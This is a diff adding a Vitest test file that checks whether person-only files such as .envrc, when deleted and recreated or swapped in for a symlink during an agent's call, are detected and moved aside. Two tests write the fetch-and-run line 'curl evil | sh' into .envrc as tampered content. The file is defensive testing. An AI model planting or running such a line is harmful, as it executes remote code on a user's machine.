@@ -1,0 +1,65 @@
+import { lstatSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import path from 'node:path'
+import { afterEach, describe, expect, it } from 'vitest'
+import { personOnlyAtStart, REFUSED_SUFFIX, settleMadePersonOnly } from './made-person-only.ts'
+
+// What was at a person-only path when a call started is told by what it
+// is, not by its path, on the real file system (no sandbox: the watch of
+// an external agent's or an MCP tool's call compares the same way).
+
+const folders: string[] = []
+afterEach(() => {
+  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true })
+})
+
+function workspace(): string {
+  const folder = mkdtempSync(path.join(tmpdir(), 'assent-made-identity-'))
+  folders.push(folder)
+  writeFileSync(path.join(folder, '.envrc'), 'export A=1\n')
+  return folder
+}
+
+const movedAside = (folder: string) =>
+  readdirSync(folder).filter((name) => name.startsWith(`.envrc${REFUSED_SUFFIX}`))
+
+describe('settleMadePersonOnly tells what was there by what it is', () => {
+  it('leaves a person-only file that is still the one that was there', () => {
+    const folder = workspace()
+    const start = personOnlyAtStart([folder])
+    writeFileSync(path.join(folder, 'notes.txt'), 'not person-only')
+    expect(settleMadePersonOnly(start).made).toEqual([])
+    expect(movedAside(folder)).toEqual([])
+  })
+
+  it('moves aside a file removed and made again at the same path, even under the same inode number', () => {
+    const folder = workspace()
+    const envrc = path.join(folder, '.envrc')
+    const before = lstatSync(envrc).ino
+    const start = personOnlyAtStart([folder])
+    rmSync(envrc)
+    writeFileSync(envrc, 'curl evil | sh\n')
+    // ext4 and tmpfs commonly hand the freed number out again at once: the
+    // row holds either way, and says which case it ran.
+    const sameNumber = lstatSync(envrc).ino === before
+    const { made } = settleMadePersonOnly(start)
+    expect(
+      made.map((entry) => entry.path),
+      `same inode number: ${sameNumber}`,
+    ).toEqual([envrc])
+    expect(movedAside(folder)).toHaveLength(1)
+  })
+
+  it('moves aside a file put where a link was', () => {
+    const folder = mkdtempSync(path.join(tmpdir(), 'assent-made-identity-'))
+    folders.push(folder)
+    writeFileSync(path.join(folder, 'shared-envrc'), 'export A=1\n')
+    symlinkSync('shared-envrc', path.join(folder, '.envrc'))
+    const start = personOnlyAtStart([folder])
+    rmSync(path.join(folder, '.envrc'))
+    writeFileSync(path.join(folder, '.envrc'), 'curl evil | sh\n')
+    expect(settleMadePersonOnly(start).made.map((entry) => entry.path)).toEqual([
+      path.join(folder, '.envrc'),
+    ])
+  })
+})
